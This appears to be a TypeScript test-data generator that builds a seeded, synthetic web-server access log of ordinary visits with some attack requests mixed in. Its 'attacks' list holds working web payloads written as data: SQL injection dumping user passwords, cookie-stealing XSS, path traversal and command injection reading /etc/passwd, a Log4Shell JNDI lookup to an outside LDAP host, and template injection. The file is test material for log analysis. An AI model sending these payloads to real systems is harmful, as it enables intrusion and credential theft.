// A log as a busy site writes it: pages, pictures, searches and sessions of many visitors, and attacks among them. Made from
// a seed, so that every run measures the same.

const paths = [
  '/',
  '/index.html',
  '/style.css',
  '/js/jquery-3.7.1.min.js',
  '/images/logo.png',
  '/favicon.ico',
  '/blog/2026/11/how-we-moved-our-servers',
  '/wp-content/uploads/2026/10/team-photo-1024x768.jpg',
  '/wp-includes/js/wp-emoji-release.min.js?ver=6.8.2',
  '/api/v1/orders',
  '/robots.txt',
]

const agents = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'curl/8.14.1',
]

const words = [
  'garden',
  'chair',
  'blue',
  'how to',
  'install',
  'price',
  'the best',
  'Käse',
  'select',
  'order by',
  'reunion',
]

const attacks = [
  '/item?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20-',
  '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
  '/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd',
  '/ping?host=127.0.0.1;cat%20/etc/passwd',
  '/?x=${jndi:ldap://198.51.100.7/a}',
  '/uploads/photo.php.jpg',
  '/item?id=1%20AND%20SLEEP(5)',
  '/render?name={{7*7}}',
]

/** A generator of numbers below 1 (mulberry32). */
function chance(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b_79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32
  }
}

function pick<T>(list: readonly T[], random: () => number, otherwise: T): T {
  return list[Math.floor(random() * list.length)] ?? otherwise
}

function target(random: () => number, attackShare: number): string {
  const kind = random()
  if (kind < attackShare) {
    const attack = pick(attacks, random, '/')
    return attack.includes('?') ? `${attack}%20${Math.floor(random() * 1e6)}` : attack
  }
  if (random() < 0.7) return pick(paths, random, '/')
  if (random() < 0.3) {
    return `/search?q=${encodeURIComponent(`${pick(words, random, 'a')} ${pick(words, random, 'b')} ${Math.floor(random() * 500)}`).replaceAll('%20', '+')}&page=${Math.floor(random() * 9)}`
  }
  if (random() < 0.5)
    return `/products/${Math.floor(random() * 20_000)}?color=blue&size=${Math.floor(random() * 60)}`
  return `/account/orders?session=${Math.floor(random() * 2 ** 53).toString(36)}&ts=${Math.floor(random() * 1e10)}`
}

/** Lines in the combined format, each with its end. */
export function sampleLog(lines: number, attackShare: number): string {
  const random = chance(42)
  const out: string[] = []
  const start = Date.UTC(2026, 10, 22)
  for (let index = 0; index < lines; index += 1) {
    const time = new Date(start + index * 20)
    const clock = time.toISOString().slice(11, 19)
    const day = String(time.getUTCDate()).padStart(2, '0')
    const visitor = Math.floor(random() ** 3 * 50_000)
    const address = `203.${visitor >> 14}.${(visitor >> 7) & 127}.${visitor & 127}`
    const status = random() < 0.94 ? 200 : 404
    const referer = random() < 0.4 ? '-' : 'https://www.example.org/blog/'
    out.push(
      `${address} - - [${day}/Nov/2026:${clock} +0000] "GET ${target(random, attackShare)} HTTP/1.1" ${status} ${Math.floor(random() * 30_000)} "${referer}" "${pick(agents, random, '-')}"\n`,
    )
  }
  return out.join('')
}
